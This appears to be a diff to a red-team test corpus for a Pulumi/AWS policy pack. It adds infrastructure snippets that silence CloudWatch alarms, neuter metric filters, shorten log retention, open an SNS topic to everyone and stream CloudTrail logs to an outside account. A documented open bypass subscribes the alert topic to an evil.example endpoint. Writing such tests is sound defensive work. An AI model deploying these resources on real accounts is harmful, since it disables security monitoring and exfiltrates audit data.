@@ -323,13 +323,33 @@ REDTEAM2: tuple[Variant, ...] = (
     v("delete-own-role-policy-with-the-denies", "no-privilege-escalation", _rp("iam:DeleteRolePolicy", '"*"')),
     v("detach-role-policy", "no-privilege-escalation", _rp("iam:DetachRolePolicy", '"*"')),
     v("create-public-function-url", "no-privilege-escalation", _rp("lambda:CreateFunctionUrlConfig", '"*"')),
+    # ---- detection AWS overwrites in place ----
+    v("alarm-of-the-same-name-with-actions-off", "closed-world",
+      '_aws.cloudwatch.MetricAlarm("x", name=_S.secret_prefix + "-" + _S.environment + "-rotation-revoke-failures", actions_enabled=False, '
+      'comparison_operator="GreaterThanThreshold", evaluation_periods=1, metric_name="m", namespace="n", period=60, statistic="Sum", threshold=1e9)'),
+    v("metric-filter-of-the-same-name-matching-nothing", "closed-world",
+      '_aws.cloudwatch.LogMetricFilter("x", name=_S.secret_prefix + "-" + _S.environment + "-secret-reads", log_group_name=_n.trail_log_group_name(_S), '
+      'pattern="{ $.eventName = \\"Nothing\\" }", metric_transformation={"name": "m", "namespace": "n", "value": "1"})'),
+    v("trail-log-group-again-one-day", "closed-world",
+      '_aws.cloudwatch.LogGroup("x", name=_n.trail_log_group_name(_S), retention_in_days=1)'),
+    v("alert-topic-second-policy-open", "closed-world",
+      '_aws.sns.TopicPolicy("x", arn=_n.alarm_topic_arn(_S), policy=_doc({"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sns:*", "Resource": "*"}))'),
+    v("trail-log-group-streamed-to-another-account", "closed-world",
+      '_aws.cloudwatch.LogSubscriptionFilter("x", name="exfil", log_group=_n.trail_log_group_name(_S), filter_pattern="", '
+      'destination_arn="arn:aws:logs:" + _R + ":999988887777:destination:evil")'),
 )
 """Red team 2 (issue 11): classes beyond the first corpus, each closed at its policy."""
 
 VARIANTS = VARIANTS + REDTEAM2
 
-OPEN_BYPASSES: tuple[Variant, ...] = ()
-"""Variants that still pass `check` (not run as tests; see the red-team report)."""
+OPEN_BYPASSES: tuple[Variant, ...] = (
+    # The alert topic's subscriptions come from `agentfleet:alarmSubscriptions`, which the policy
+    # config does not carry (the pack cannot tell a reviewed subscription from another one).
+    v("alert-topic-subscribed-by-an-outside-endpoint", "closed-world",
+      '_aws.sns.TopicSubscription("x", topic=_n.alarm_topic_arn(_S), protocol="https", endpoint="https://evil.example/hook")'),
+)
+"""Variants that still pass `check` (not run as tests; see the red-team report). They are kept
+here so the fix can flip them into VARIANTS."""
 
 _UNDER_FLEET = "opts=_pulumi.ResourceOptions(parent=fleet)"
 _UNDER_CRM = 'opts=_pulumi.ResourceOptions(parent=fleet.agents["crm"])'
